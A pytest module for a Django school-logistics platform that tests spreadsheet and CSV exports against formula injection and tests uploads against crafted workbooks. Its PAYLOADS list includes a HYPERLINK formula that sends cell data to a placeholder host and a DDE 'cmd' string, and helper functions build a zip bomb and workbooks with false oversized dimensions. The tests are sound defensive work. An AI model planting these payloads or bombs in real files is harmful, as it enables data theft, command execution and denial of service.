"""Spreadsheets in and out, through `houqin.tables` alone.

Downloads: every operation of either host's OpenAPI schema that answers an .xlsx or a CSV, and
the command that writes a report file, is declared below with a case that puts formula payloads
in every text field it writes. No cell of the file is a formula, and no text cell starts with a
character that makes a spreadsheet evaluate it; numbers stay numbers. An operation or a module
that writes spreadsheets without a case here fails `test_every_*_is_declared`, and no module but
`houqin.tables` may touch openpyxl's workbooks or the csv module.

Uploads: every operation that takes a file reads it through `houqin.tables`: a workbook whose
`<dimension>` claims a million rows and sixteen thousand columns, or whose one real cell sits far
down, is read in well under a second; a file past the row limit is refused whole, saving
nothing; a zip bomb is refused before it is unpacked.
"""

import ast
import csv
import io
import re
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from unittest import mock
from xml.etree import ElementTree

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.utils import timezone
from django_tenants.utils import schema_context
from openpyxl.worksheet._read_only import ReadOnlyWorksheet

from houqin.roles import Role
from houqin.tables import MAX_COLUMNS, read_table
from shared_apps.procurement.models import CatalogueItem, Category
from shared_apps.reporting.models import SchoolAssetCategory, SchoolUpkeep
from shared_apps.standards.models import Food
from shared_apps.subsidies.models import Claim
from shared_apps.transport import services as transport_services
from shared_apps.transport.models import Route, Run
from tenant_apps.canteen.models import MealSession, Serving
from tenant_apps.people import register
from tenant_apps.people.models import Student
from tenants.models import School
from tenants.routing import school_host
from tests.conftest import HostClient
from tests.factories import SETUP, make_user
from tests.matrix import transport
from tests.matrix.people import make_student
from tests.matrix.subsidies import make_budget, make_programme
from tests.matrix.supply import make_spend_line, make_supplier

R = Role
ROOT = Path(__file__).resolve().parent.parent
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SHEET_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

# Written into every text field a download carries: each start a spreadsheet evaluates.
PAYLOADS = [
    '=HYPERLINK("http://x/?"&A2&B2,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
MONTH = date(2024, 3, 1)


def _formula_like(text: str) -> bool:
    return text[:1] in FORMULA_STARTS or text.lstrip()[:1] in FORMULA_STARTS


def _as_xml_reads_it(text: str) -> str:
    # An XML parser reads a line break written as CR (or CR LF) as LF.
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _xml(data: bytes) -> ElementTree.Element:
    return ElementTree.fromstring(data)  # noqa: S314 (the server's own file, just written)


def xlsx_texts(content: bytes) -> list[str]:
    """Every text a workbook's cells hold, once it is checked that no cell is a formula, a
    formula's result or an error value, and that every numeric cell is a number."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        shared: list[str] = []
        if "xl/sharedStrings.xml" in names:
            root = _xml(archive.read("xl/sharedStrings.xml"))
            shared = [
                "".join(t.text or "" for t in si.iter(f"{SHEET_NS}t"))
                for si in root.iter(f"{SHEET_NS}si")
            ]
        texts: list[str] = []
        sheets = [n for n in names if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        for name in sheets:
            root = _xml(archive.read(name))
            assert not list(root.iter(f"{SHEET_NS}f")), f"a formula in {name}"
            for cell in root.iter(f"{SHEET_NS}c"):
                kind = cell.get("t", "n")
                value = cell.find(f"{SHEET_NS}v")
                if kind == "s":
                    assert value is not None and value.text is not None
                    texts.append(shared[int(value.text)])
                elif kind == "inlineStr":
                    texts.append("".join(t.text or "" for t in cell.iter(f"{SHEET_NS}t")))
                elif kind == "n":
                    assert value is None or Decimal(value.text or "0").is_finite()
                else:
                    assert kind in ("b", "d"), f"a cell of type {kind} in {name}"
    return texts


def csv_fields(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]


def assert_safe(texts: list[str], written: list[str], *, xml: bool) -> None:
    """No text evaluates (a number written as text, in a CSV, may start with a minus), and
    every value written is there, escaped: the file did carry each payload."""
    evaluated = [t for t in texts if _formula_like(t) and not NUMBER.fullmatch(t)]
    assert not evaluated, evaluated
    escaped = {_as_xml_reads_it("'" + w) if xml else "'" + w for w in written}
    assert escaped <= set(texts), escaped - set(texts)


# Downloads ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Download:
    """One operation answering a file: who asks, where, for what, and the module writing it."""

    host: str  # "school" or "district"
    path: str
    role: Role
    query: dict[str, str]
    formats: tuple[str, ...]
    writer: str
    plant: Callable[[School, School], list[str]] = field(repr=False)


def _plant_students(school_a: School, school_b: School) -> list[str]:
    written = []
    for payload in PAYLOADS:
        student = make_student(
            school_a.schema_name,
            student_number=payload[:32],
            name=payload,
            class_name=payload[:32],
        )
        written += [student.student_number, student.name, student.class_name]
    return written


def _plant_statements(school_a: School, school_b: School) -> list[str]:
    School.objects.filter(pk=school_a.pk).update(name=PAYLOADS[0])
    School.objects.filter(pk=school_b.pk).update(name=PAYLOADS[1])
    for payload in PAYLOADS:
        programme = make_programme(name=payload, daily_rate=Decimal("4.00"))
        for school in (school_a, school_b):
            budget = make_budget(
                school, programme, start=date(2024, 2, 1), end=date(2024, 7, 31), year=2024
            )
            Claim.objects.create(
                programme=programme,
                school=school,
                budget=budget,
                month=MONTH,
                status=Claim.Status.APPROVED,
                breakdown={"2024-03-04": 10},
                school_days=1,
                student_days=10,
                daily_rate=programme.daily_rate,
                amount=Decimal("40.00"),
                disbursed=Decimal("0.00"),
                computed_at=timezone.now(),
                decided_at=timezone.now(),
                decided_by=make_user(display_name=payload),
            )
    return PAYLOADS


def _plant_spend(school_a: School, school_b: School) -> list[str]:
    School.objects.filter(pk=school_a.pk).update(name=PAYLOADS[0])
    School.objects.filter(pk=school_b.pk).update(name=PAYLOADS[1])
    for n, payload in enumerate(PAYLOADS):
        make_spend_line(
            school_a if n % 2 else school_b,
            make_supplier(name=payload),
            order_number=payload,
            outside_contract_reason=payload,
            description=payload,
            ordered_on=date(2025, 3, 10),
            due_on=date(2025, 3, 12),
            # Dearer than the market: savings below zero, which must stay a number.
            reference_price=Decimal("10.00"),
        )
    return PAYLOADS


def _plant_upkeep(school_a: School, school_b: School) -> list[str]:
    School.objects.filter(pk=school_a.pk).update(name=PAYLOADS[0])
    School.objects.filter(pk=school_b.pk).update(name=PAYLOADS[1])
    for school in (school_a, school_b):
        SchoolUpkeep.objects.create(school=school, open_requests=3, assets=7)
        for n, payload in enumerate(PAYLOADS):
            SchoolAssetCategory.objects.create(
                school=school, category=payload[:9], kind=str(n), count=2, cost=Decimal("-5.00")
            )
    return PAYLOADS[:2]


def _plant_asset_categories(school_a: School, school_b: School) -> list[str]:
    _plant_upkeep(school_a, school_b)
    return [payload[:9] for payload in PAYLOADS]


def _plant_transport(school_a: School, school_b: School) -> list[str]:
    School.objects.filter(pk=school_a.pk).update(name=PAYLOADS[0])
    School.objects.filter(pk=school_b.pk).update(name=PAYLOADS[1])
    day = timezone.localdate() + timedelta(days=1)
    for n, payload in enumerate(PAYLOADS):
        route = transport.make_route([school_a, school_b])
        Route.objects.filter(pk=route.pk).update(name=payload)
        licence = transport.make_licence(route=route)
        run = transport.make_run(licence, day=day)
        Run.objects.filter(pk=run.pk).update(cost=Decimal("-1.00") * n)
        transport_services.assign_seat(run=run, school=school_a, student_ref=n + 1, actor=SETUP)
        transport.make_driver(name=payload, review_valid_until=day)
    return PAYLOADS


DOWNLOADS = {
    ("school", "/api/v1/students/export/"): Download(
        "school",
        "/api/v1/students/export/",
        R.LOGISTICS_DIRECTOR,
        {},
        ("csv", "xlsx"),
        "tenant_apps.people.register",
        _plant_students,
    ),
    ("school", "/api/v1/statements/school/"): Download(
        "school",
        "/api/v1/statements/school/",
        R.PRINCIPAL,
        {"month": "2024-03"},
        ("xlsx",),
        "shared_apps.reporting.renderers",
        _plant_statements,
    ),
    ("district", "/api/v1/statements/district/"): Download(
        "district",
        "/api/v1/statements/district/",
        R.FINANCE_OFFICER,
        {"month": "2024-03"},
        ("xlsx",),
        "shared_apps.reporting.renderers",
        _plant_statements,
    ),
    ("district", "/api/v1/statements/schools/{code}/"): Download(
        "district",
        "/api/v1/statements/schools/{code}/",
        R.AUDITOR,
        {"month": "2024-03"},
        ("xlsx",),
        "shared_apps.reporting.renderers",
        _plant_statements,
    ),
    ("district", "/api/v1/procurement/spend/summary/"): Download(
        "district",
        "/api/v1/procurement/spend/summary/",
        R.AUDITOR,
        {"month": "2025-03"},
        ("xlsx",),
        "shared_apps.procurement.api.supply_renderers",
        _plant_spend,
    ),
    ("district", "/api/v1/upkeep/schools/"): Download(
        "district",
        "/api/v1/upkeep/schools/",
        R.AUDITOR,
        {},
        ("xlsx",),
        "shared_apps.reporting.api.upkeep_views",
        _plant_upkeep,
    ),
    ("district", "/api/v1/upkeep/assets/"): Download(
        "district",
        "/api/v1/upkeep/assets/",
        R.FINANCE_OFFICER,
        {},
        ("xlsx",),
        "shared_apps.reporting.api.upkeep_views",
        _plant_asset_categories,
    ),
    ("district", "/api/v1/transport/reports/"): Download(
        "district",
        "/api/v1/transport/reports/",
        R.TRANSPORT_OFFICER,
        {
            "date_from": str(timezone.localdate()),
            "date_to": str(timezone.localdate() + timedelta(days=7)),
        },
        ("xlsx",),
        "shared_apps.transport.api.reports",
        _plant_transport,
    ),
}
# Files written by commands rather than served: the module, and the test that covers it.
COMMAND_WRITERS = {"tenants.management.commands.import_schools": "test_the_import_report_is_safe"}


def _schema(host: str) -> dict[str, Any]:
    paths: dict[str, Any] = HostClient(host).get("/api/schema/?format=json").json()["paths"]
    return paths


def _hosts(school: School, district_host: str) -> dict[str, str]:
    return {"school": school_host(school.code), "district": district_host}


def test_every_download_is_declared(school_a: School, district_host: str) -> None:
    found = set()
    for name, host in _hosts(school_a, district_host).items():
        for path, operations in _schema(host).items():
            for operation in operations.values():
                for response in operation.get("responses", {}).values():
                    types = set(response.get("content", {}))
                    if types & {XLSX, "text/csv"}:
                        found.add((name, path))
    assert found == set(DOWNLOADS)


@pytest.mark.parametrize(
    ("key", "fmt"),
    [(key, fmt) for key, download in DOWNLOADS.items() for fmt in download.formats],
    ids=lambda value: value if isinstance(value, str) else " ".join(value),
)
def test_a_download_never_carries_a_formula(
    client_for: Any, school_a: School, school_b: School, key: tuple[str, str], fmt: str
) -> None:
    download = DOWNLOADS[key]
    written = download.plant(school_a, school_b)
    client = client_for(school_a if download.host == "school" else None, download.role)
    path = download.path.format(code=school_a.code)
    response = client.get(path, {**download.query, "format": fmt})
    assert response.status_code == 200, response.content[:300]
    if fmt == "csv":
        assert_safe(csv_fields(response.content), written, xml=False)
    else:
        assert_safe(xlsx_texts(response.content), written, xml=True)


def test_a_negative_amount_stays_a_number(
    client_for: Any, school_a: School, school_b: School
) -> None:
    _plant_spend(school_a, school_b)
    response = client_for(None, R.AUDITOR).get(
        "/api/v1/procurement/spend/summary/", {"month": "2025-03", "format": "xlsx"}
    )
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    savings = [row[1] for row in book.worksheets[0].iter_rows(values_only=True)]
    # Eight lines of 2 at 15.00 against a reference of 10.00: 80.00 below the market.
    assert Decimal(str(savings[8])) == Decimal("-80.00")


def test_the_import_report_is_safe(db: Any, tmp_path: Path) -> None:
    listed = tmp_path / "schools.csv"
    rows = [[payload[:10], payload, "小学"] for payload in PAYLOADS]
    listed.write_bytes(plain_csv([["学校代码", "学校名称", "学校类型"], *rows]))
    report = tmp_path / "report.csv"
    with pytest.raises(CommandError):
        call_command("import_schools", str(listed), "--report", str(report), "--dry-run")
    fields = csv_fields(report.read_bytes())
    assert_safe(fields, [row[0].strip() for row in rows], xml=False)


def plain_csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8-sig")


def test_an_export_imports_as_it_was(client_for: Any, school_a: School) -> None:
    for payload in PAYLOADS:
        make_student(school_a.schema_name, name=payload.strip(), class_name=payload.strip()[:32])
    director = client_for(school_a, R.LOGISTICS_DIRECTOR)
    for fmt in ("csv", "xlsx"):
        exported = director.get("/api/v1/students/export/", {"format": fmt}).content
        upload = SimpleUploadedFile(f"register.{fmt}", exported)
        response = director.post(
            "/api/v1/students/import/", {"file": upload, "dry_run": "true"}, format="multipart"
        )
        assert response.status_code == 200, response.content[:300]
        assert {row["status"] for row in response.json()["rows"]} == {"unchanged"}


def _modules_importing(names: Callable[[str, str | None], bool]) -> set[str]:
    """The project's modules with an import that `names(module, name)` picks."""
    found = set()
    for top in ("platform", "tenants", "shared_apps", "tenant_apps"):
        for path in (ROOT / top).rglob("*.py"):
            module = ".".join(path.relative_to(ROOT).with_suffix("").parts)
            module = module.removeprefix("platform.")
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.Import):
                    picked = any(names(alias.name, None) for alias in node.names)
                elif isinstance(node, ast.ImportFrom) and node.module:
                    picked = any(names(node.module, alias.name) for alias in node.names)
                else:
                    continue
                if picked:
                    found.add(module)
    return found


def test_only_houqin_tables_touches_workbooks_and_csv() -> None:
    # Styles, column letters and the worksheet type may be used to format a report.
    formatting = ("openpyxl.styles", "openpyxl.utils", "openpyxl.worksheet.worksheet")

    def raw(module: str, name: str | None) -> bool:
        if module == "csv":
            return True
        if module == "openpyxl" or module.startswith("openpyxl."):
            return not module.startswith(formatting)
        return False

    assert _modules_importing(raw) == {"houqin.tables"}


def _uses_tables(picked: set[str]) -> Callable[[str, str | None], bool]:
    """Picks an import of one of `picked` from houqin.tables, or of the module itself."""

    def names(module: str, name: str | None) -> bool:
        if module == "houqin.tables":
            return name is None or name in picked
        return module == "houqin" and name == "tables"

    return names


def test_every_module_writing_spreadsheets_is_declared() -> None:
    found = _modules_importing(_uses_tables({"csv_bytes", "xlsx_bytes", "Workbook", "escape_text"}))
    declared = {d.writer for d in DOWNLOADS.values()} | set(COMMAND_WRITERS)
    assert found == declared
    assert all(name in globals() for name in COMMAND_WRITERS.values())


# Uploads -----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Upload:
    """One operation taking a spreadsheet: who sends it, a good row, and what a row saves."""

    host: str
    path: str
    role: Role
    reader: str
    header: list[str]
    row: Callable[[int], list[Any]] = field(repr=False)
    form: dict[str, str] = field(default_factory=dict)
    # How many of the rows `row(n)` makes are saved, in school A (or the centre).
    saved: Callable[[School, list[int]], int] = field(
        repr=False, default=lambda _school, _numbers: 0
    )
    # The status a real row reads as in the report.
    status: str = ""
    # Where to send the file in school A, once what its rows name exists (for `path`'s `{id}`).
    target: Callable[[School], str] | None = field(repr=False, default=None)

    def path_in(self, school: School) -> str:
        return self.path if self.target is None else self.target(school)


SWIPED_ON = date(2025, 3, 12)


def _meal_with_pupils(school: School) -> str:
    """A lunch, and the pupils `C0000000` to `C0000029` a terminal's rows name."""
    with schema_context(school.schema_name):
        Student.objects.bulk_create(
            (
                Student(
                    student_number=f"C{n:07d}",
                    name=f"学生{n}",
                    gender=Student.Gender.MALE,
                    grade=3,
                )
                for n in range(30)
            ),
            ignore_conflicts=True,
        )
        session, _new = MealSession.objects.get_or_create(
            date=SWIPED_ON, meal="lunch", defaults={"ingredient_cost": Decimal("300.00")}
        )
    return f"/api/v1/sessions/{session.pk}/servings/import/"


def _servings_saved(school: School, ns: list[int]) -> int:
    with schema_context(school.schema_name):
        return Serving.objects.filter(student__student_number__in=[f"C{n:07d}" for n in ns]).count()


def _students_saved(school: School, ns: list[int]) -> int:
    with schema_context(school.schema_name):
        return Student.objects.filter(student_number__in=[f"B{n:07d}" for n in ns]).count()


UPLOADS = {
    ("school", "/api/v1/students/import/"): Upload(
        "school",
        "/api/v1/students/import/",
        R.LOGISTICS_DIRECTOR,
        "tenant_apps.people.register",
        ["学籍号", "姓名", "性别", "年级"],
        lambda n: [f"B{n:07d}", "张三", "男", 3],
        saved=_students_saved,
        status="created",
    ),
    ("district", "/api/v1/schools/import/"): Upload(
        "district",
        "/api/v1/schools/import/",
        R.DISTRICT_ADMIN,
        "tenants.onboarding",
        ["学校代码", "学校名称", "学校类型"],
        lambda n: [f"{700000 + n}", f"学校{n}", "小学"],
        saved=lambda _school, ns: School.objects.filter(
            code__in=[f"{700000 + n}" for n in ns]
        ).count(),
        status="created",
    ),
    ("district", "/api/v1/foods/import/"): Upload(
        "district",
        "/api/v1/foods/import/",
        R.NUTRITION_OFFICER,
        "shared_apps.standards.importing",
        ["食物编码", "食物名称", "食物类别", "可食部", "能量(kcal)", "蛋白质"],
        lambda n: [f"B{n:05d}", f"食物{n}", "谷薯类", 100, 350, 8],
        form={"source": "测试来源"},
        saved=lambda _school, ns: Food.objects.filter(code__in=[f"B{n:05d}" for n in ns]).count(),
        status="created",
    ),
    ("district", "/api/v1/procurement/catalogue/import/"): Upload(
        "district",
        "/api/v1/procurement/catalogue/import/",
        R.PROCUREMENT_OFFICER,
        "shared_apps.procurement.catalogue_files",
        ["编码", "名称", "类别", "单位", "参考价", "参考价日期"],
        lambda n: [f"B{n:05d}", f"物品{n}", "食品", "kg", "5.20", "2025-03-01"],
        saved=lambda _school, ns: CatalogueItem.objects.filter(
            code__in=[f"B{n:05d}" for n in ns], category=Category.FOOD
        ).count(),
        status="created",
    ),
    ("school", "/api/v1/sessions/{id}/servings/import/"): Upload(
        "school",
        "/api/v1/sessions/{id}/servings/import/",
        R.CANTEEN_MANAGER,
        "tenant_apps.canteen.terminal",
        ["卡号", "刷卡时间"],
        lambda n: [f"C{n:07d}", "2025-03-12 11:31"],
        saved=_servings_saved,
        status="created",
        target=_meal_with_pupils,
    ),
}
# Files that are not tables: their own tests (photos: a decompression bomb, EXIF stripped).
OTHER_UPLOADS = {("school", "/api/v1/repairs/requests/{id}/photos/")}


def test_every_upload_is_declared(school_a: School, district_host: str) -> None:
    found = set()
    for name, host in _hosts(school_a, district_host).items():
        for path, operations in _schema(host).items():
            for operation in operations.values():
                # A file upload: multipart only (other writes take JSON too).
                content = operation.get("requestBody", {}).get("content", {})
                if set(content) == {"multipart/form-data"}:
                    found.add((name, path))
    assert found == set(UPLOADS) | OTHER_UPLOADS
    readers = _modules_importing(_uses_tables({"read_table"}))
    assert readers == {u.reader for u in UPLOADS.values()}


def crafted_xlsx(
    header: list[Any],
    rows: dict[int, list[Any]],
    *,
    dimension: str,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """A workbook with `header` in row 1 and each row at its number, whose sheet claims
    `dimension`; with `extra` parts added to the archive."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(header)
    for number, values in rows.items():
        for column, value in enumerate(values, start=1):
            sheet.cell(row=number, column=column, value=value)
    made = io.BytesIO()
    book.save(made)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(made.getvalue())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for part in source.infolist():
            data = source.read(part)
            if part.filename == "xl/worksheets/sheet1.xml":
                data, count = re.subn(
                    rb'<dimension ref="[^"]*" ?/>', f'<dimension ref="{dimension}"/>'.encode(), data
                )
                assert count == 1
            if part.filename == "[Content_Types].xml" and extra:
                overrides = "".join(
                    f'<Override PartName="/{name}" ContentType="{SHARED_STRINGS}"/>'
                    for name in extra
                    if name == "xl/sharedStrings.xml"
                )
                data = data.replace(b"</Types>", overrides.encode() + b"</Types>")
            target.writestr(part.filename, data)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


SHARED_STRINGS = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"


def _send(
    client_for: Any, school: School, upload: Upload, content: bytes, filename: str = "list.xlsx"
) -> tuple[Any, float]:
    """The answer to the upload, and the seconds spent reading the file (what a crafted file
    attacks; what the rows then save, a school's schema say, is not the reader's cost)."""
    client = client_for(school if upload.host == "school" else None, upload.role)
    body = {"file": SimpleUploadedFile(filename, content), **upload.form}
    spent: list[float] = []

    def timed(*args: Any, **kwargs: Any) -> Any:
        started = time.perf_counter()
        try:
            return read_table(*args, **kwargs)
        finally:
            spent.append(time.perf_counter() - started)

    with mock.patch(f"{upload.reader}.read_table", timed):
        response = client.post(upload.path_in(school), body, format="multipart")
    assert spent, f"{upload.reader} read no file"
    return response, sum(spent)


CLAIMS = "A1:XFD1048576"

# The timed tests run with coverage's tracer paused (no_cover): it slows Python code about
# twofold, and the time asserted is the code's. A bomb honoured would take minutes; an upload
# read as it should takes a fraction of a second, and more on a machine busy with the rest of
# the suite (1.07 s once in CI): the bound sits between, far from both.
BOMB_SECONDS = 5


@pytest.mark.no_cover
@pytest.mark.parametrize("key", list(UPLOADS), ids=lambda key: key[1])
def test_a_huge_dimension_costs_nothing(
    client_for: Any, school_a: School, key: tuple[str, str]
) -> None:
    upload = UPLOADS[key]
    content = crafted_xlsx(upload.header, {2: upload.row(1)}, dimension=CLAIMS)
    response, seconds = _send(client_for, school_a, upload, content)
    assert response.status_code == 200, response.content[:300]
    assert [(r["row"], r["status"]) for r in response.json()["rows"]] == [(2, upload.status)]
    assert upload.saved(school_a, [1]) == 1
    assert seconds < BOMB_SECONDS, seconds


@pytest.mark.no_cover
@pytest.mark.parametrize("key", list(UPLOADS), ids=lambda key: key[1])
def test_one_cell_far_down_costs_nothing(
    client_for: Any, school_a: School, settings: Any, key: tuple[str, str]
) -> None:
    """The crafted file of the finding: one real row at row 20,000 under a dimension as wide as
    Excel allows. Within the limit it imports; past an importer's own limit it is a 400."""
    upload = UPLOADS[key]
    content = crafted_xlsx(upload.header, {20000: upload.row(2)}, dimension="A1:XFD20000")
    response, seconds = _send(client_for, school_a, upload, content)
    assert seconds < BOMB_SECONDS, seconds
    if key[1] == "/api/v1/schools/import/":  # at most 2,000 schools an upload
        assert response.status_code == 400
        assert response.json()["error"]["code"] == "too_many_rows"
        assert upload.saved(school_a, [2]) == 0
    else:
        assert response.status_code == 200, response.content[:300]
        assert [(r["row"], r["status"]) for r in response.json()["rows"]] == [
            (20000, upload.status)
        ]
        assert upload.saved(school_a, [2]) == 1


@pytest.mark.no_cover
@pytest.mark.parametrize("key", list(UPLOADS), ids=lambda key: key[1])
def test_a_file_past_the_row_limit_is_refused_whole(
    client_for: Any, school_a: School, settings: Any, key: tuple[str, str]
) -> None:
    settings.IMPORT_MAX_ROWS = 3
    upload = UPLOADS[key]
    rows = {n: upload.row(8 + n) for n in range(2, 6)}
    for name, content in (
        ("list.xlsx", crafted_xlsx(upload.header, rows, dimension="A1:F5")),
        ("list.csv", plain_csv([upload.header, *rows.values()])),
        # A row far down, past the limit: read to the limit, no further.
        (
            "list.xlsx",
            crafted_xlsx(
                upload.header, {2: upload.row(10), 1048576: upload.row(11)}, dimension=CLAIMS
            ),
        ),
    ):
        response, seconds = _send(client_for, school_a, upload, content, name)
        assert response.status_code == 400, response.content[:300]
        error = response.json()["error"]
        assert error["code"] == "too_many_rows"
        assert "3" in error["message"]
        assert seconds < BOMB_SECONDS, seconds
        assert upload.saved(school_a, [10, 11, 12, 13]) == 0


def _strings(count: int) -> dict[str, bytes]:
    head = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    return {"xl/sharedStrings.xml": head + b"<si><t>x</t></si>" * count + b"</sst>"}


@pytest.mark.no_cover
@pytest.mark.parametrize("key", list(UPLOADS), ids=lambda key: key[1])
def test_a_zip_bomb_is_refused_before_it_is_unpacked(
    client_for: Any, school_a: School, key: tuple[str, str]
) -> None:
    """Shared strings that unpack past the cap (61 MB, 3.6 million strings in 150 KB); under the
    cap but squeezed a thousandfold (20 MB); a thousand parts."""
    upload = UPLOADS[key]
    bomb = crafted_xlsx(
        upload.header, {2: upload.row(20)}, dimension="A1:F2", extra=_strings(3_600_000)
    )
    squeezed = crafted_xlsx(
        upload.header, {2: upload.row(20)}, dimension="A1:F2", extra=_strings(1_200_000)
    )
    assert len(bomb) < 200_000
    many = crafted_xlsx(
        upload.header,
        {2: upload.row(21)},
        dimension="A1:F2",
        extra={f"xl/media/part{n}.bin": b"" for n in range(1000)},
    )
    for content in (bomb, squeezed, many):
        response, seconds = _send(client_for, school_a, upload, content)
        assert response.status_code == 400, response.content[:300]
        assert response.json()["error"]["code"] == "unreadable_file"
        assert seconds < BOMB_SECONDS, seconds
    assert upload.saved(school_a, [20, 21]) == 0


@pytest.mark.slow
def test_a_register_of_twenty_thousand_students_is_read_whole(db: Any) -> None:
    """The limit's worth of rows in a dozen columns, as a school's export from the national
    register would have them, passes every cap on the file."""
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("学生名册")
    sheet.append(register.EXPORT_HEADERS)
    for n in range(20000):
        enrolled = date(2024 - n % 6, 9, 1)
        number, name, gender, grade = f"G{n:07d}", f"学生{n}", "男女"[n % 2], 1 + n % 6
        sheet.append(
            [number, name, gender, grade, f"{n % 9}班", "否", None, enrolled, "在校", None, "营养"]
        )
    out = io.BytesIO()
    book.save(out)
    rows = register.read_student_rows(io.BytesIO(out.getvalue()), "register.xlsx")
    assert (len(rows), rows[-1].row, rows[-1].student_number) == (20000, 20001, "G0019999")


def test_rows_are_read_as_wide_as_the_header(db: Any) -> None:
    """Every row, the header's too, with a cell in Excel's last column (XFD): read as wide as
    the header's titles, not as wide as the cells."""
    far = '<c r="XFD{n}" t="inlineStr"><is><t>备注</t></is></c>'
    cells = "".join(
        f'<c r="{column}1" t="inlineStr"><is><t>{title}</t></is></c>'
        for column, title in zip("ABCD", ["学籍号", "姓名", "性别", "年级"], strict=True)
    )
    rows = [f'<row r="1">{cells}{far.format(n=1)}</row>']
    for n in range(2, 5002):
        rows.append(
            f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>B{n:07d}</t></is></c>'
            f'<c r="B{n}" t="inlineStr"><is><t>张三</t></is></c>'
            f'<c r="C{n}" t="inlineStr"><is><t>男</t></is></c><c r="D{n}"><v>3</v></c>'
            f"{far.format(n=n)}</row>"
        )
    sheet = (
        f'<worksheet xmlns="{SHEET_NS[1:-1]}"><dimension ref="A1:XFD5001"/>'
        f"<sheetData>{''.join(rows)}</sheetData></worksheet>"
    ).encode()
    content = _replace_part(crafted_xlsx(["x"], {}, dimension="A1:XFD1"), sheet)
    rows_read = ReadOnlyWorksheet.iter_rows
    with mock.patch.object(
        ReadOnlyWorksheet, "iter_rows", autospec=True, side_effect=rows_read
    ) as iter_rows:
        read = register.read_student_rows(io.BytesIO(content), "r.xlsx")
    assert [(r.row, r.student_number, r.grade) for r in read[:1]] == [(2, "B0000002", "3")]
    assert len(read) == 5000
    # The header within the column cap, then every other row only as wide as its four titles.
    assert [call.kwargs["max_col"] for call in iter_rows.call_args_list] == [MAX_COLUMNS, 4]


def _replace_part(content: bytes, sheet: bytes) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for part in source.infolist():
            data = sheet if part.filename == "xl/worksheets/sheet1.xml" else source.read(part)
            target.writestr(part.filename, data)
    return out.getvalue()
